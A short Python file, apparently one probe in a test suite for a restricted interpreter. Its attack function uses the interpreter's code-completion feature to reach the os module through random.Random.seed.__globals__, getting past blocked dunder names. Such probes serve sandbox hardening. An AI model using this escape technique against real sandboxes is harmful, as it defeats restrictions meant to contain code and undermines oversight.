"""P1: completion walks over refused names to a library's globals."""


def attack(door):
    door.run("import random")
    return [m for m in door.complete("random.Random.seed.__globals__['_o") if "_os" in m]
